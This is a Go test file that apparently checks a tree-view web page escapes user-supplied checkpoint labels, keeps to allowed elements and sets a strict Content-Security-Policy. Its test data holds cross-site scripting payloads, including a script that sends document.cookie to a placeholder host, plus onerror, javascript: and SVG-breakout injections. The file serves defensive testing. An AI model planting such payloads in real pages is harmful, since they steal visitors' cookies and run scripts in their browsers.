package security

import (
	"context"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"deltabox/internal/apitypes"
	"deltabox/internal/client"
	"deltabox/internal/testutil"
)

// TestTreePageMarkup: a key holder cannot put markup on the page of the tree another
// viewer opens (GET /v1/tree/page): checkpoint labels made of HTML and SVG (a script, an
// event handler, a link, an external image, a foreignObject, a closing </svg>) come out
// as text; the page holds only the elements it is made of and no attribute that runs or
// loads anything; its CSP forbids scripts and every external source; without a key the
// TCP listener refuses it.
func TestTreePageMarkup(t *testing.T) {
	d, addr := testutil.StartRemoteDaemon(t)
	key := testutil.NewKey(t, d, "labels")
	c := client.NewRemote("http://"+addr, key)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	if _, err := c.Create(ctx, apitypes.CreateOptions{ID: "marks"}); err != nil {
		t.Fatal(err)
	}
	labels := []string{
		`<script>fetch("http://example.invalid/"+document.cookie)</script>`,
		`"><img src=x onerror=alert(1)>`,
		`</text></g></svg><a href="javascript:alert(2)">x</a><style>body{display:none}</style>`,
		`<foreignObject><iframe src="http://example.invalid/"></iframe></foreignObject>`,
		`' onmouseover='alert(3)`,
	}
	for _, l := range labels {
		if _, err := c.Checkpoint(ctx, "marks", l); err != nil {
			t.Fatal(err)
		}
	}
	page, err := c.TreePage(ctx, "", "marks")
	if err != nil {
		t.Fatal(err)
	}
	allowed := map[string]bool{"html": true, "head": true, "meta": true, "title": true, "style": true, "body": true, "h1": true,
		"p": true, "div": true, "table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true,
		"svg": true, "rect": true, "line": true, "g": true, "text": true}
	doc, err := html.Parse(strings.NewReader(string(page)))
	if err != nil {
		t.Fatal(err)
	}
	styles, labelCells := 0, map[string]bool{}
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if !allowed[n.Data] {
				t.Errorf("the page has a <%s> element", n.Data)
			}
			if n.Data == "style" {
				styles++
			}
			for _, a := range n.Attr {
				if k := strings.ToLower(a.Key); strings.HasPrefix(k, "on") || k == "href" || k == "src" || k == "style" || strings.Contains(k, ":") {
					t.Errorf("<%s> has an attribute %s=%q", n.Data, a.Key, a.Val)
				}
			}
			for _, a := range n.Attr {
				if a.Key == "class" && a.Val == "label" && n.FirstChild != nil {
					labelCells[n.FirstChild.Data] = true
				}
			}
		}
		for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
			walk(ch)
		}
	}
	walk(doc)
	if styles != 1 {
		t.Errorf("%d style elements, want the page's own one", styles)
	}
	for _, l := range labels {
		if !labelCells[l] {
			t.Errorf("label %q is not shown as text in the table", l)
		}
	}

	get := func(k string) *http.Response {
		req, _ := http.NewRequestWithContext(ctx, "GET", "http://"+addr+"/v1/tree/page", nil)
		if k != "" {
			req.Header.Set("Authorization", "Bearer "+k)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp
	}
	if r := get(""); r.StatusCode != 401 {
		t.Errorf("the page without a key: %d, want 401", r.StatusCode)
	}
	r := get(key)
	csp := r.Header.Get("Content-Security-Policy")
	for _, want := range []string{"default-src 'none';", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'"} {
		if !strings.Contains(csp, want) {
			t.Errorf("Content-Security-Policy %q lacks %q", csp, want)
		}
	}
	if strings.Contains(csp, "script-src") || strings.Contains(csp, "unsafe") || strings.Contains(csp, "http") || r.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("Content-Security-Policy %q, X-Content-Type-Options %q: want no script source, nothing unsafe, no host, nosniff", csp, r.Header.Get("X-Content-Type-Options"))
	}
}
